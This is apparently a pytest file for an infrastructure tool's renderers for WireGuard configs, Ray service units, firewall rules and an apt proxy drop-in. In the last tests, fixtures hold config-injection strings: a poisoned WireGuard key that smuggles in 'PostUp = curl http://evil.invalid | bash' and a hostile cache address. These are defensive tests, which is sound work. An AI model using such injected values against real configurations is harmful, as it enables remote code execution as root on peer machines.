"""The text of the files the project writes on nodes (resolve/files.py): one decision that
both engines write, derived from NodeState."""

from __future__ import annotations

import base64
import hashlib
import json
import shlex
import socket
import subprocess

import pytest

from swarm_infra.resolve import desired_state, load_fleet
from swarm_infra.resolve.files import (
    STATIC,
    UnsafeValue,
    apt_cache_conf,
    apt_cache_detect,
    static_file,
    wireguard_conf,
    wireguard_peer_keys,
    wireguard_peers,
    wireguard_running_differs,
)
from swarm_infra.resolve.keys import wireguard_key_problem
from swarm_infra.resolve.layers import LAYERS

from .conftest import fleet_dirs

STATE = desired_state(load_fleet([str(p) for p in fleet_dirs("lab")]))
NODES = STATE["nodes"]


def key(name: str) -> str:
    """A well-formed WireGuard public key (32 bytes, base64) standing for ``name``'s."""
    return base64.b64encode(hashlib.sha256(name.encode()).digest()).decode()


def keys_for(node: dict) -> dict[str, str]:
    return {p["name"]: key(p["name"]) for p in node["mesh"]["peers"]}


@pytest.mark.parametrize("name", sorted(NODES))
def test_wg_conf_has_every_declared_peer_with_its_allowed_ips_and_no_private_key(name: str) -> None:
    node = NODES[name]
    keys = keys_for(node)
    text = wireguard_conf(node, keys)
    assert f"Address = {node['mesh']['address']}\n" in text
    assert f"ListenPort = {node['mesh']['listen_port']}\n" in text
    assert f"MTU = {node['mesh']['mtu']}\n" in text
    assert "PrivateKey" not in text
    assert f"private-key {node['layout']['files']['wireguard_key']['path']}\n" in text
    blocks = text.split("[Peer]\n")[1:]
    assert len(blocks) == len(node["mesh"]["peers"])
    for peer, block in zip(node["mesh"]["peers"], blocks, strict=True):
        assert f"PublicKey = {keys[peer['name']]}\n" in block
        assert f"AllowedIPs = {', '.join(peer['allowed_ips'])}\n" in block
        assert ("Endpoint = " in block) == bool(peer["endpoint"])


def test_a_peer_without_a_known_key_is_a_comment_until_it_is_converged() -> None:
    node = NODES["lab-gpu-1"]
    keys = keys_for(node)
    missing = node["mesh"]["peers"][0]["name"]
    del keys[missing]
    text = wireguard_conf(node, keys)
    assert text.count("[Peer]") == len(node["mesh"]["peers"]) - 1
    assert f"# {missing}: public key not known yet" in text


def test_peer_keys_prefer_this_runs_keys_and_drop_peers_no_longer_declared() -> None:
    node = NODES["lab-gpu-1"]
    peers = [p["name"] for p in node["mesh"]["peers"]]
    recorded = {peers[0]: key("old"), "gone-node": key("gone")}
    fresh = {peers[0]: key("new"), peers[-1]: "", "not-a-peer": key("x")}
    keys = wireguard_peer_keys(node, recorded, fresh)
    assert keys == {peers[0]: key("new")}  # fresh wins, empty fresh ignored, undeclared dropped
    assert json.loads(wireguard_peers(node, keys)) == keys


def test_running_peers_are_compared_as_sets_of_allowed_ips() -> None:
    node = NODES["lab-gpu-1"]
    keys = keys_for(node)
    lines = [f"{keys[p['name']]}\t{' '.join(reversed(p['allowed_ips']))}" for p in node["mesh"]["peers"]]
    assert not wireguard_running_differs(node, keys, "\n".join(lines))
    assert wireguard_running_differs(node, keys, "\n".join(lines[1:]))  # a peer removed at runtime
    first = node["mesh"]["peers"][0]
    changed = [f"{keys[first['name']]}\t(none)", *lines[1:]]
    assert wireguard_running_differs(node, keys, "\n".join(changed))


def test_ray_unit_runs_the_start_args_each_quoted_whole() -> None:
    for node in NODES.values():
        if not node["ray"]:
            continue
        text = static_file(node, "ray_unit")
        exec_start = next(ln for ln in text.splitlines() if ln.startswith("ExecStart="))
        venv = node["layout"]["files"]["ray_venv"]["path"]
        assert shlex.split(exec_start.removeprefix("ExecStart=")) == [
            f"{venv}/bin/ray",
            *node["ray"]["start_args"],
        ]
        assert ("ExecStartPre=" in text) == (node["ray"]["role"] == "worker")
        # `ray job submit -- python job.py` finds Ray's own python first
        path = next(ln for ln in text.splitlines() if ln.startswith("Environment=PATH="))
        assert path.removeprefix("Environment=PATH=").split(":")[0] == f"{venv}/bin"


def test_ray_firewall_lets_only_the_clusters_members_reach_rays_ports() -> None:
    """Issue #22: any mesh peer could reach Ray's job API. The members (the nodes with a Ray
    part in the desired state, by their mesh address) and nobody else; replies first."""
    members = sorted(
        (n["mesh"]["address"].split("/")[0] for n in NODES.values() if n["ray"]),
        key=lambda a: tuple(map(int, a.split("."))),
    )
    for node in (n for n in NODES.values() if n["ray"]):
        fw = node["ray"]["firewall"]
        text = static_file(node, "ray_firewall_rules")
        lines = [ln.strip() for ln in text.splitlines()]
        chain = lines[lines.index("chain input {") + 1 :]
        assert chain[1] == "ct state established,related accept"  # replies to what Ray opened
        assert f"elements = {{ {', '.join(members)} }}" in lines
        iface = node["mesh"]["interface"]
        ports = ", ".join(map(str, fw["tcp_ports"]))
        assert f'iifname "{iface}" ip saddr @members tcp dport {{ {ports} }} accept' in chain
        assert f"tcp dport {{ {ports} }} drop" in chain
        for first, last in fw["tcp_ranges"]:
            assert f'iifname "{iface}" ip saddr @members tcp dport {first}-{last} accept' in chain
            assert f"tcp dport {first}-{last} drop" in chain
        # Nothing else is accepted on the mesh: no interface-wide accept as before.
        assert [ln for ln in chain[1:] if "accept" in ln and "@members" not in ln] == [
            "ct state established,related accept",
            'iifname "lo" accept',
        ]


def test_ray_units_run_as_the_unprivileged_user_with_the_token_as_a_credential() -> None:
    for node in (n for n in NODES.values() if n["ray"]):
        unit = static_file(node, "ray_unit").splitlines()
        user = node["ray"]["user"]
        assert f"User={user}" in unit and f"Group={user}" in unit and "PrivateTmp=yes" in unit
        token = node["layout"]["files"]["ray_auth_token"]["path"]
        assert f"LoadCredential=ray-auth-token:{token}" in unit
        assert "Environment=RAY_AUTH_MODE=token" in unit
        assert "Environment=RAY_AUTH_TOKEN_PATH=%d/ray-auth-token" in unit
        assert not any(ln.startswith("Environment=RAY_AUTH_TOKEN=") for ln in unit)
        sysusers = static_file(node, "ray_sysusers").splitlines()[-1].split()
        assert sysusers[:3] == ["u", user, "-"] and sysusers[-1] == "/usr/sbin/nologin"


def test_gpu_settings_are_the_nodes_gpu_slice() -> None:
    node = NODES["lab-gpu-1"]
    assert json.loads(static_file(node, "gpu_settings")) == node["gpu"]


@pytest.mark.parametrize("name", sorted(STATIC))
def test_every_static_file_is_text_ending_with_a_newline_and_stable(name: str) -> None:
    node = NODES["lab-gpu-1"]
    if name == "ray_unit" and not node["ray"]:
        node = next(n for n in NODES.values() if n["ray"])
    # A file no lab node wants (a pull node's, a package index CA's) is rendered from the
    # nodes that want it in test_layers.py (every registered file is produced by its writer).
    owner = next((x for x in LAYERS if name in x.files), None)
    if owner is not None and not owner.wants(node, name):
        node = next((n for n in NODES.values() if owner.wants(n, name)), None)
        if node is None:
            pytest.skip(f"no lab node wants {name}")
    text = static_file(node, name)
    assert text.endswith("\n") and text == static_file(node, name)


def test_forwarding_follows_relaying_and_comes_back_when_a_node_stops(tmp_path) -> None:
    """A relay's mesh tunables turn IPv4 forwarding on; once the node forwards for nobody its
    spec holds no sysctl, so the node-side code removes the file and restores the value it
    recorded before (on a fake root)."""
    from swarm_infra.nodeside import tunables
    from swarm_infra.resolve.files import tunables_spec

    example = desired_state(load_fleet([str(p) for p in fleet_dirs("example")]))["nodes"]
    relay = next(n for n in example.values() if n["mesh"] and n["mesh"]["forwarding"])
    other = next(n for n in example.values() if n["mesh"] and not n["mesh"]["forwarding"])
    on, off = tunables_spec(relay, "mesh"), tunables_spec(other, "mesh")
    assert on["sysctls"] == {"net.ipv4.ip_forward": "1"} and off["sysctls"] == {}
    assert {k: v for k, v in on.items() if k != "sysctls"} == {k: v for k, v in off.items() if k != "sysctls"}
    live = tmp_path / "proc/sys/net/ipv4/ip_forward"
    live.parent.mkdir(parents=True)
    live.write_text("0\n")
    conf = tmp_path / on["sysctl_conf"].lstrip("/")
    tunables.converge(on, root=str(tmp_path))
    assert live.read_text() == "1\n" and "net.ipv4.ip_forward = 1" in conf.read_text()
    result = tunables.converge(off, root=str(tmp_path))
    assert result["changed"] and live.read_text() == "0\n" and not conf.exists()
    with pytest.raises(ValueError):
        tunables_spec(relay, "gpu")


# The public key a hostile node's root reports in place of its own (issue #22): a valid key,
# then a line break and lines that would route everything to it and run a command as root
# on every peer at its next `wg-quick up`.
POISONED = key("evil") + "\nAllowedIPs = 0.0.0.0/0\n[Interface]\nPostUp = curl http://evil.invalid | bash"


def test_a_poisoned_key_never_reaches_a_peers_wg_conf() -> None:
    node = NODES["lab-gpu-1"]
    peers = [p["name"] for p in node["mesh"]["peers"]]
    # Freshly reported (this run), with a good key recorded before: the good one stays.
    keys = wireguard_peer_keys(node, {peers[0]: key(peers[0])}, {peers[0]: POISONED})
    assert keys == {peers[0]: key(peers[0])}
    # Never seen before: the peer stays a comment, and the file has no injected line.
    keys = wireguard_peer_keys(node, {}, {peers[0]: POISONED})
    text = wireguard_conf(node, keys)
    assert "PostUp = curl" not in text and "0.0.0.0/0" not in text
    assert text.count("[Interface]") == 1
    assert f"# {peers[0]}: public key not known yet" in text


def test_the_renderer_refuses_a_key_or_field_with_a_line_break_whatever_called_it() -> None:
    node = NODES["lab-gpu-1"]
    peer = node["mesh"]["peers"][0]["name"]
    with pytest.raises(UnsafeValue, match=peer):
        wireguard_conf(node, {peer: POISONED})
    hostile = {
        **node,
        "mesh": {**node["mesh"], "peers": [{**node["mesh"]["peers"][0], "endpoint": "a:1\n[Interface]"}]},
    }
    with pytest.raises(UnsafeValue, match="endpoint"):
        wireguard_conf(hostile, {peer: key(peer)})


def test_two_peers_reporting_one_key_are_both_left_out() -> None:
    node = NODES["lab-gpu-1"]
    peers = [p["name"] for p in node["mesh"]["peers"]]
    assert len(peers) >= 2
    same = key("copied")
    assert wireguard_peer_keys(node, {}, {peers[0]: same, peers[1]: same}) == {}


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        (key("a"), True),
        ("KEY-lab-gpu-2=", False),
        (key("a")[:-2] + "B=", False),  # 2 non-zero padding bits: not what wg(8) prints
        (key("a") + "\n", False),
        (POISONED, False),
        (None, False),
    ],
)
def test_wireguard_key_format(value: object, ok: bool) -> None:
    assert (wireguard_key_problem(value) is None) == ok


# ------------------------------------------------------------------- package cache


def _cached(node: dict, host: str, port: int) -> dict:
    return {**node, "package_cache": {"apt_proxy": f"http://{host}:{port}", "host": host, "port": port}}


def test_apts_own_parser_reads_the_package_cache_drop_in(tmp_path) -> None:
    """The real oracle: apt-config(8) parses the drop-in as apt will."""
    node = _cached(NODES["lab-gpu-1"], "192.0.2.1", 3142)
    conf = tmp_path / "80swarm-package-cache"
    conf.write_text(apt_cache_conf(node))
    out = subprocess.run(["apt-config", "-c", str(conf), "dump"], capture_output=True, text=True, check=True)
    detect = node["layout"]["files"]["apt_cache_detect"]["path"]
    assert f'Acquire::http::Proxy-Auto-Detect "{detect}";' in out.stdout.splitlines()


def test_the_detect_program_answers_the_cache_while_it_listens_else_direct(tmp_path) -> None:
    """Run for real with bash: a listening socket on loopback is the cache; once closed, the
    mirror itself (DIRECT), without waiting."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    script = tmp_path / "detect"
    script.write_text(apt_cache_detect(_cached(NODES["lab-gpu-1"], "127.0.0.1", port)))
    script.chmod(0o755)

    def run() -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(script), "http://deb.debian.org/debian/"], capture_output=True, text=True)

    assert run().stdout == f"http://127.0.0.1:{port}\n"
    server.close()
    assert run().stdout == "DIRECT\n"


def test_a_hostile_cache_address_cannot_add_a_line() -> None:
    node = _cached(NODES["lab-gpu-1"], '10.0.0.1\nAcquire::http::Proxy "http://evil"', 3142)
    with pytest.raises(UnsafeValue):
        apt_cache_detect(node)
